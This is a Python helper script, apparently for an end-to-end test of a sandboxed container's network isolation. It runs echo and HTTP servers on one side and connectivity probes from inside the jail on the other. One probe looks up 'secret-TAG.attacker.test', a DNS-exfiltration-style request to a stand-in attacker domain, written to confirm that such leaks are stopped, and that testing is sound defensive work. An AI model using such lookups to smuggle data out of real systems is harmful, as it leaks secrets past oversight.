#!/usr/bin/python3
"""virtual-client.py: both ends of tests/e2e/virtual.sh.

  serve LOG ADDR            in the server namespace: a TCP echo on ADDR:5432 and ADDR:5433
                            (one line back, prefixed with the port) and a tiny HTTP server
                            on ADDR:80 that answers "host=H path=P"; every connection and
                            what it carried goes to LOG as a JSON line. Prints "ready".
  run TAG                   inside the jailed container: the probes, one JSON line each
                            ({"label": ..., ...}), then {"label": "done"}.
  expect FILE LABEL EXPR    the probe LABEL's line in FILE, as r, satisfies the Python EXPR
  any FILE EXPR             some JSON line of FILE, as r, satisfies EXPR
  none FILE EXPR            no JSON line of FILE does
"""
import json
import socket
import subprocess
import sys
import threading


def out(label, **kw):
    kw["label"] = label
    print(json.dumps(kw), flush=True)


# ---- the server side -----------------------------------------------------------------------
def serve(log_path, addr):
    lock = threading.Lock()

    def log(**kw):
        with lock, open(log_path, "a") as f:
            f.write(json.dumps(kw) + "\n")

    def echo(conn, port):
        with conn:
            data = b""
            while b"\n" not in data:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
            log(kind="echo", port=port, data=data.decode(errors="replace"))
            conn.sendall(b"echo-%d " % port + data)

    def http(conn):
        with conn:
            data = b""
            while b"\r\n\r\n" not in data:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
            lines = data.decode(errors="replace").split("\r\n")
            path = lines[0].split(" ")[1] if len(lines[0].split(" ")) > 1 else ""
            host = ""
            for line in lines[1:]:
                if line.lower().startswith("host:"):
                    host = line[5:].strip()
            log(kind="http", host=host, path=path)
            body = ("host=%s path=%s\n" % (host, path)).encode()
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
                         % len(body) + body)

    def listen(port, handler):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((addr, port))
        s.listen(64)

        def loop():
            while True:
                conn, _ = s.accept()
                threading.Thread(target=handler, args=(conn,), daemon=True).start()
        threading.Thread(target=loop, daemon=True).start()

    listen(5432, lambda c: echo(c, 5432))
    listen(5433, lambda c: echo(c, 5433))
    listen(80, http)
    print("ready", flush=True)
    threading.Event().wait()


# ---- the client side -----------------------------------------------------------------------
def resolve(name, family):
    try:
        infos = socket.getaddrinfo(name, None, family, socket.SOCK_STREAM)
        return sorted({i[4][0] for i in infos})
    except OSError as e:
        return ["error: %s" % e]


def talk(family, addr, port, payload, want_until=b"\n"):
    """Connects, sends PAYLOAD, reads until WANT_UNTIL or EOF; what happened."""
    r = {"addr": addr, "port": port}
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(10)
    try:
        s.connect((addr, port))
        r["connected"] = True
        s.sendall(payload)
        data = b""
        while want_until not in data:
            chunk = s.recv(4096)
            if not chunk:
                r["eof"] = True
                break
            data += chunk
        r["data"] = data.decode(errors="replace")
    except OSError as e:
        r["error"] = e.__class__.__name__ + ": " + str(e)
    finally:
        s.close()
    return r


def http_get(family, addr, host, path):
    req = ("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, host)).encode()
    r = talk(family, addr, 80, req, want_until=b"\x00never")
    status = r.get("data", "").split("\r\n", 1)[0].split(" ")
    r["code"] = int(status[1]) if len(status) > 1 and status[1].isdigit() else 0
    return r


def tls_hello(addr, server_name):
    """A ClientHello for SERVER_NAME to ADDR:443; nothing there speaks TLS back, so the proxy's
    log says what it decided."""
    import ssl
    r = {"addr": addr, "sni": server_name}
    ctx = ssl.create_default_context()
    try:
        with socket.create_connection((addr, 443), 10) as s:
            with ctx.wrap_socket(s, server_hostname=server_name):
                r["handshake"] = True
    except (OSError, ssl.SSLError) as e:
        r["error"] = e.__class__.__name__ + ": " + str(e)
    return r


def run(tag):
    v4 = resolve("db.example.test", socket.AF_INET)
    v6 = resolve("db.example.test", socket.AF_INET6)
    again = resolve("DB.Example.Test.", socket.AF_INET)
    out("resolve", v4=v4, v6=v6, again=again,
        other=resolve("secret-%s.attacker.test" % tag, socket.AF_INET),
        web=resolve("web.example.test", socket.AF_INET))
    try:
        dig = subprocess.run(["dig", "+short", "+time=2", "+tries=1", "db.example.test"],
                             capture_output=True, text=True, timeout=10).stdout.split()
    except (OSError, subprocess.SubprocessError) as e:
        dig = ["error: %s" % e]
    out("dig", answers=dig)
    a4 = v4[0]
    out("echo4", **talk(socket.AF_INET, a4, 5432, b"ping4-%s\n" % tag.encode()))
    out("echo6", **talk(socket.AF_INET6, v6[0], 5432, b"ping6-%s\n" % tag.encode()))
    out("other_port", **talk(socket.AF_INET, a4, 5433, b"port5433-%s\n" % tag.encode()))
    out("http_match", **http_get(socket.AF_INET, a4, "db.example.test", "/match-" + tag))
    out("http_mismatch", **http_get(socket.AF_INET, a4, "web.example.test", "/mismatch-" + tag))
    out("http_web", **http_get(socket.AF_INET, "6.6.6.6", "web.example.test", "/web-" + tag))
    out("tls_match", **tls_hello(a4, "db.example.test"))
    out("tls_mismatch", **tls_hello(a4, "web.example.test"))
    # UDP to the pool is no way out either.
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    r = {}
    try:
        s.sendto(b"udp-%s" % tag.encode(), (a4, 5432))
        s.settimeout(2)
        r["data"] = s.recv(100).decode(errors="replace")
    except OSError as e:
        r["error"] = e.__class__.__name__ + ": " + str(e)
    out("udp", **r)
    out("done")


def lines(path):
    try:
        text = open(path).read()
    except OSError:
        return []
    result = []
    for line in text.splitlines():
        try:
            value = json.loads(line)
        except ValueError:
            continue
        if isinstance(value, dict):
            result.append(value)
    return result


def holds(expr, r):
    try:
        return bool(eval(expr, {}, {"r": r}))
    except Exception:
        return False


def main():
    cmd = sys.argv[1]
    if cmd == "serve":
        serve(sys.argv[2], sys.argv[3])
    elif cmd == "run":
        run(sys.argv[2])
    elif cmd == "expect":
        for r in lines(sys.argv[2]):
            if r.get("label") == sys.argv[3]:
                if holds(sys.argv[4], r):
                    sys.exit(0)
                print(json.dumps(r), file=sys.stderr)
                sys.exit(1)
        print("no line labelled %s" % sys.argv[3], file=sys.stderr)
        sys.exit(1)
    elif cmd == "any":
        sys.exit(0 if any(holds(sys.argv[3], r) for r in lines(sys.argv[2])) else 1)
    elif cmd == "none":
        sys.exit(1 if any(holds(sys.argv[3], r) for r in lines(sys.argv[2])) else 0)
    else:
        sys.exit("unknown command " + cmd)


if __name__ == "__main__":
    main()
